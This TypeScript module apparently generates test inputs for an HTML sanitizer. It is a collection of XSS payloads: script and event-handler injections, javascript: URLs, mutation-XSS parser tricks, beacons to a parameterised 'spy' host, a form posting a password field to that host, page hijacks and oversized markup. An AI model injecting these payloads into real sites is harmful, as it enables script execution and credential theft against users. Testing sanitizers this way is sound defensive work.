/**
 * Pieces of hostile letters: they call `alert`, load from `spy`, or navigate the page; "press" is pressed.
 * From known failures of browsers and sanitizers.
 */
export function hostilePieces(spy: string): string[] {
  return [...plain(spy), ...confusing(runOf(spy)), ...covering(spy)];
}

/** The same in few letters, the piece that hides later ones last. */
export function hostileLetters(spy: string): string[] {
  const last = confusing(runOf(spy));
  const others = plain(spy);
  const each = Math.ceil(others.length / last.length);
  return last.map((piece, at) => [...others.slice(at * each, (at + 1) * each), piece].join("\n<hr>\n"));
}

const runOf = (spy: string) => `alert(1);new Image().src='${spy}/run'`;
const plain = (spy: string) => [
  ...running(runOf(spy), `fetch('${spy}/run');alert(1)`, spy),
  ...loading(spy),
  ...leading(spy),
];

/** Scripts in tags, attributes and addresses. */
const running = (run: string, code: string, spy: string) => [
  `<script>${code}</script>`,
  `<script src="${spy}/script.js"></script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<SCRIPT\n>${code}</SCRIPT >`,
  `<script type="module">${code}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${spy}/speculated"]}]}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x:x onerror\t=\n"${run}">`,
  `<img/src="x"/onerror="${run}">`,
  `<img src="x" \0onerror="${run}">`,
  `<body onload="${run}" onpageshow="${run}">`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s /></svg>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script href="data:text/javascript,${code}" /></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>press</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}" /><text x=20 y=20>press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"></svg>`,
  `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${run}"><mtext>press</mtext></maction></math>`,
  `<details open ontoggle="${run}"><summary>press</summary></details>`,
  `<input autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select><textarea autofocus onfocus="${run}"></textarea>`,
  `<p tabindex=0 autofocus onfocus="${run}">press</p>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<video onerror="${run}"><source onerror="${run}" src=x></video><audio src=x onerror="${run}"></audio>`,
  `<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart="${run}">x</b>`,
  `<div onpointerenter="${run}" onclick="${run}" onmouseover="${run}">press</div>`,
  `<a href="javascript:${run}">press</a>`,
  `<a href="JaVaScRiPt:${run}">press</a>`,
  `<a href=" \x01javascript:${run}">press</a>`,
  `<a href="java\nscript:${run}">press</a>`,
  `<a href="java&#10;script&colon;${run}">press</a>`,
  `<a href="&#x6A;&#x61;vascript&#58;${run}">press</a>`,
  `<a href="\0javascript:${run}">press</a>`,
  `<a target="_top" href="javascript:${run}">press</a><a target="_parent" href="javascript:${run}">press</a>`,
  `<a href="data:text/html,<script>${code}</script>">press</a>`,
  `<a href="vbscript:msgbox(1)">press</a>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe><iframe src="data:text/html,<script>${code}</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="data:text/html,<script>${code}</script>">`,
  `<form action="javascript:${run}"><button>press</button></form><button formaction="javascript:${run}">press</button>`,
  `<isindex action="javascript:${run}" type=image>`,
  `<p style="width:expression(${run});behavior:url(#x);-moz-binding:url(${spy}/x.xml#x)">x</p>`,
];

/** What a sanitizer parses otherwise than a browser. */
const confusing = (run: string) => {
  const image = `<img src=x onerror="${run}">`;
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<math><mi><table><mi><mglyph><style><!--</style>${image}-->`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><style><img title="</style>${image}"></style></svg>`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<noscript><p title="</noscript>${image}"></noscript>`,
    `<noembed><p title="</noembed>${image}"></noembed><noframes><p title="</noframes>${image}"></noframes>`,
    `<template><p title="</template>${image}"></template><div><template shadowrootmode=open>${image}</template></div>`,
    `<xmp><p title="</xmp>${image}"></xmp><listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<title><p title="</title>${image}"></title><textarea><p title="</textarea>${image}"></textarea>`,
    `<iframe><p title="</iframe>${image}"></iframe><style><p title="</style>${image}"></style>`,
    `<!--><img src=x onerror="${run}">--><!---><img src=x onerror="${run}">--><!--!>${image}-->`,
    `<!-- --!>${image}<!--`,
    `<![CDATA[>${image}]]><?xml >${image}?>`,
    `<svg><![CDATA[</svg>]]>${image}</svg>`,
    `<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`,
    `<p title='"><img src=x onerror=${run}>'>x</p><p title="&quot;><img src=x onerror=${run}>">x</p>`,
    `<p title=\`><img src=x onerror=${run}>\`>x</p>`,
    `<select><option><style></option></select>${image}</style>`,
    `<plaintext>${image}`,
    `<a href="https://x.test/" title="</a>${image}">x</a>`,
    `\u3008img src=x onerror=${run}\u3009\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
    `<\0script>alert(1)</\0script><img src=x\0onerror=${run}>`,
  ];
};

/** What loads without a click. */
const loading = (spy: string) => [
  `<img src="${spy}/img.png" width=100 height=50>`,
  `<img src="//${new URL(spy).host}/relative.png" width=100 height=50>`,
  `<img srcset="${spy}/srcset.png 1x" width=100 height=50><picture><source srcset="${spy}/source.png"><img width=10></picture>`,
  `<img lowsrc="${spy}/lowsrc.png" dynsrc="${spy}/dynsrc.avi" longdesc="${spy}/longdesc" usemap="${spy}/#m">`,
  `<table background="${spy}/table.png"><tr><td background="${spy}/td.png">x</td></tr></table><body background="${spy}/body.png">`,
  `<style>@import url(${spy}/import.css);@font-face{font-family:a;src:url(${spy}/font.woff2)}*{font-family:a;background:url(${spy}/all.png)}</style>`,
  `<link rel=stylesheet href="${spy}/link.css"><link rel=preload as=image href="${spy}/preload.png"><link rel=prefetch href="${spy}/prefetch">`,
  `<link rel=dns-prefetch href="${spy}"><link rel=preconnect href="${spy}"><link rel=icon href="${spy}/icon.ico"><link rel=manifest href="${spy}/m.json">`,
  `<link rel=modulepreload href="${spy}/module.js"><link rel=import href="${spy}/import.html"><link rel=prerender href="${spy}/prerender">`,
  ...[
    "background:url(URL)",
    "background-image:url('URL')",
    'background:u\\72l("URL")',
    "background:url( URL )",
    "list-style:url(URL)",
    "list-style-image:url(URL)",
    "border-image:url(URL) 1",
    "border-image-source:url(URL)",
    "content:url(URL)",
    "cursor:url(URL),auto",
    "filter:url(URL#f)",
    "mask:url(URL)",
    "-webkit-mask-image:url(URL)",
    "clip-path:url(URL#c)",
    "shape-outside:url(URL)",
    "background:image-set('URL' 1x)",
    "background:-webkit-image-set(url(URL) 1x)",
    "background:cross-fade(url(URL),url(URL),50%)",
    "--x:url(URL);background:var(--x)",
    "/**/background/**/:/**/url(URL)",
    "background:url(data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>)",
  ].map(
    (style, at) =>
      `<p style="${style.replaceAll("URL", `${spy}/style-${at}.png`).replaceAll('"', "&quot;")}">x</p>`,
  ),
  `<video poster="${spy}/poster.png" src="${spy}/video.mp4" autoplay></video><audio src="${spy}/audio.mp3" autoplay></audio>`,
  `<video><track default src="${spy}/track.vtt"><source src="${spy}/source.mp4"></video>`,
  `<iframe src="${spy}/iframe"></iframe><frameset><frame src="${spy}/frame"></frameset><portal src="${spy}/portal"></portal><fencedframe></fencedframe>`,
  `<object data="${spy}/object"></object><embed src="${spy}/embed"><applet code=x codebase="${spy}/applet"></applet>`,
  `<input type=image src="${spy}/input.png"><button style="background:url(${spy}/button.png)">x</button>`,
  `<svg><image href="${spy}/svg.png" /><use href="${spy}/use.svg#x" /><feImage href="${spy}/fe.png" /></svg>`,
  `<svg><style>@import url(${spy}/svg-import.css)</style><rect fill="url(${spy}/fill.svg#x)" width=9 height=9 /></svg>`,
  `<?xml-stylesheet href="${spy}/sheet.css"?><bgsound src="${spy}/sound.wav"><ilayer src="${spy}/layer"></ilayer>`,
  `<html manifest="${spy}/manifest"><head profile="${spy}/profile"></head></html><blockquote cite="${spy}/cite">x</blockquote>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${spy}/in-svg.png'/></svg>" width=9>`,
];

/** What navigates the page, its links or its forms. */
const leading = (spy: string) => [
  `<meta http-equiv="refresh" content="0;url=${spy}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="refresh" content="0;url=data:text/html,x">`,
  `<meta http-equiv="set-cookie" content="authToken=stolen"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<meta name="referrer" content="unsafe-url"><base href="${spy}/base/"><base target="_top"><img src="relative.png">`,
  `<form action="${spy}/form" method=post><input name=password type=password autofocus><button>press</button></form>`,
  `<form id=f action="${spy}/form"></form><button form=f>press</button><input type=submit form=f formaction="${spy}/formaction">`,
  `<a href="/en/dashboard" target="_top">press</a><area href="${spy}/area" target="_top">`,
  `<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap="#m" src=x width=99 height=99>`,
  `<a href="#x" ping="${spy}/ping" download="x.html">press</a><a id=x></a>`,
  `<p name=top id=location>x</p><form name=parent><input name=attributes><input name=body></form><img name=documentElement>`,
  `<dialog open>x</dialog><div popover=auto id=p>x</div><button popovertarget=p>press</button>`,
];

/** What covers other elements, or is too large. */
const covering = (spy: string) => [
  `<div style="position:fixed;inset:0;z-index:2147483647;background:red"><a href="${spy}/covered">over</a></div>`,
  `<div style="position:absolute;top:-500px;left:-500px;width:9999px;height:9999px;background:red">x</div>`,
  `<p style="margin:-9999px;transform:scale(100);zoom:50">x</p>`,
  `<p style="width:1e9px;height:1e9px">x</p><img width=99999999 height=99999999 alt=x>`,
  `<table width=99999999 border=99999999><tr><td colspan=1000 rowspan=65534>x</td></tr></table>`,
  "<div>".repeat(5_000),
  `<b>${"<font size=7>".repeat(2_000)}x`,
  `<ul>${"<li>".repeat(3_000)}</ul>${"</div>".repeat(3_000)}`,
  `<p>${"\u0300".repeat(5_000)}${"\u202E".repeat(50)}x</p>`,
];
